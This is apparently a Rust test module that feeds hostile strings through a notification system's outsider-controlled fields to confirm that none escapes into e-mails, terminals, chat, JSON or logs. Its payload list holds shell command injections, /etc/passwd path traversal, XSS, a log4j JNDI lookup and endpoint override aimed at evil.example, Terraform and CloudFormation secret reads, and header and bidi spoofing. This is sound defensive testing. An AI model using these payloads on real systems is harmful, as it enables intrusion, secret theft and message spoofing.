//! Hostile text in every field that an outsider controls, through the router, the reconciler and the topic.

use std::panic::catch_unwind;

use crate::fields::FIELDS;
use crate::sinks;

/// What somebody may write who wants more than to be read; each is several attempts at the same thing.
pub(crate) fn values() -> Vec<String> {
    let attempts: [&[&str]; 7] = [
        // Lines, headers of an e-mail, lines of our own.
        &[
            "x\nWho          root\r\nBcc: everybody@example.com\r\n\r\nbody",
            "x\u{85}y\u{b}\u{c}\u{2028}\u{2029}z",
            "%0a%0dBcc: everybody@example.com",
        ],
        // Terminals; what is not seen or read the other way round.
        &[
            "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m\u{7f}\u{0}",
            "photo\u{202e}gpj.exe\u{2066}\u{2069}\u{200b}\u{feff}\u{e0041}\u{ad}",
            "\u{435}xample \u{ff0e}\u{ff0e}\u{ff0f} demo\u{301}",
        ],
        // Shells.
        &[
            "'; touch PWNED; '",
            "\"; touch PWNED; \"",
            "$(touch PWNED)",
            "x`;touch PWNED;`'`;touch PWNED;`",
            "| touch PWNED && touch PWNED > PWNED # \\",
        ],
        &[
            "--endpoint-url=http://evil.example",
            "-v file:///etc/passwd",
            "../../etc/passwd",
        ],
        // Chat and HTML.
        &[
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "<!channel> <!here|x> <@U024BE7LH> @everyone @channel",
            "[click](http://evil.example) <https://evil.example|click> https://evil.example",
            "``` *bold* _it_ ~no~ ``` ```",
        ],
        // Terraform, CloudFormation, log4j, printf.
        &[
            "${file(\"/etc/passwd\")} $${x} %{if true}x%{endif}",
            "\"\n}\nresource \"aws_iam_user\" \"x\" {}\n#",
            "{{resolve:secretsmanager:prod:SecretString:password}} !Ref X &{aws:username}",
            "${jndi:ldap://evil.example/a} %s%n {0}",
        ],
        // JSON, metrics in the log, items of the ledger.
        &[
            "\"}\n{\"_aws\":{\"CloudWatchMetrics\":[]},\"level\":\"ERROR\"}",
            "\\\"\\u0000\\ud800",
            "incident#grant-missing#bucket:media reader#media sweep bucket:other",
        ],
    ];
    let long = ["A".repeat(5_000), "写\u{202e}`'<".repeat(700)];
    let attempts = attempts.into_iter().map(|attempts| attempts.join(" "));
    attempts.chain(long).collect()
}

#[test]
fn no_field_that_an_outsider_controls_gets_out_of_its_place_in_any_message() {
    let values = values();
    let (mut said, mut wrong) = (0, Vec::new());
    for (name, play) in FIELDS {
        if play("harmless").notices.is_empty() {
            wrong.push(format!("{name} makes nobody be told"));
        }
        for value in &values {
            // All that is wrong, not the first of it.
            let checked = catch_unwind(|| {
                let told = play(value);
                sinks::expect_harmless(name, value, &told);
                told.notices.len()
            });
            match checked {
                Ok(notices) => said += notices,
                Err(_) => wrong.push(format!("{name}: {value:.60?}")),
            }
        }
    }
    assert_eq!(wrong, Vec::<String>::new());
    assert!(said >= FIELDS.len() * values.len() / 2, "{said} messages");
}

#[test]
fn the_checks_of_the_sinks_can_fail() {
    for field in ["subject", "text", "json", "chat", "attributes"] {
        let mut told = FIELDS[0].1("harmless");
        let notice = &mut told.notices[0];
        match field {
            "subject" => notice.subject.push('\n'),
            "text" => notice.text.push('\u{202e}'),
            "json" => notice.json.push('}'),
            "chat" => notice.chat = notice.chat.replace("*Who:*", "*Who:* <!channel>"),
            _ => _ = notice.attributes.insert("x".to_owned(), "a b".to_owned()),
        }
        let checked = catch_unwind(|| sinks::expect_harmless("no field", "harmless", &told));
        assert!(checked.is_err(), "{field}");
    }
}
